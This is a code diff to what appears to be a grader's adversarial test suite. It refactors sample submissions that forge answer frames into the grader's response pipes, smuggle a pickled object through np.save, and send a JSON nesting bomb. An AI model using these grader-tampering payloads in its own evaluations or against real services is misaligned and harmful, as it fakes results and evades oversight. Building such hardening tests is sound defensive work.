@@ -91,6 +91,16 @@ _RESP_FDS = _shared('''
         for blob in blobs:
             body += struct.pack(">I", len(blob)) + blob
         return struct.pack(">I", len(body)) + body
+
+
+    def _answer_for_the_grader(header: bytes, blobs=()):
+        """Write a forged answer frame into every pipe that may be the response pipe."""
+        forged = _frame(header, blobs)
+        for fd in _response_fds():
+            try:
+                _os.write(fd, forged)
+            except OSError:
+                pass
 ''')
 _DAEMON = _shared('''
     def _daemon(path, argv):
@@ -447,12 +457,7 @@ ATTACKS: dict[str, Attack] = {
                 import io, json
                 buf = io.BytesIO()
                 np.save(buf, np.array([_Pickle()], dtype=object), allow_pickle=True)
-                forged = _frame(json.dumps({"ok": {"$nd": 0}}).encode(), [buf.getvalue()])
-                for fd in _response_fds():
-                    try:
-                        _os.write(fd, forged)
-                    except OSError:
-                        pass
+                _answer_for_the_grader(json.dumps({"$dict": [["ok", {"$nd": 0}]]}).encode(), [buf.getvalue()])
                 return np.zeros(np.asarray(z).shape[0])
         '''},
         reasons={"q3.softmax": ["not plain"]}),
@@ -460,12 +465,7 @@ ATTACKS: dict[str, Attack] = {
         append={"backprop.py": _RESP_FDS + '''
 
             def cross_entropy(y, y_hat):
-                forged = _frame(b"[" * 200000 + b"]" * 200000)  # deeper than any JSON parser recurses
-                for fd in _response_fds():
-                    try:
-                        _os.write(fd, forged)
-                    except OSError:
-                        pass
+                _answer_for_the_grader(b"[" * 200000 + b"]" * 200000)  # deeper than any JSON parser recurses
                 return 0.0
         '''},
         reasons={"q3.cross_entropy": ["not plain"]}),
@@ -478,12 +478,8 @@ ATTACKS: dict[str, Attack] = {
                 import io, json
                 buf = io.BytesIO()
                 np.save(buf, np.ones(190_000))
-                forged = _frame(json.dumps({"$dict": [["ok", [{"$nd": 0}] * 200_000]]}).encode(), [buf.getvalue()])
-                for fd in _response_fds():
-                    try:
-                        _os.write(fd, forged)
-                    except OSError:
-                        pass
+                _answer_for_the_grader(json.dumps({"$dict": [["ok", [{"$nd": 0}] * 200_000]]}).encode(),
+                                       [buf.getvalue()])
                 return np.zeros(np.asarray(z).shape[0])
         '''},
         reasons={"q3.softmax": ["not plain numbers"]}),
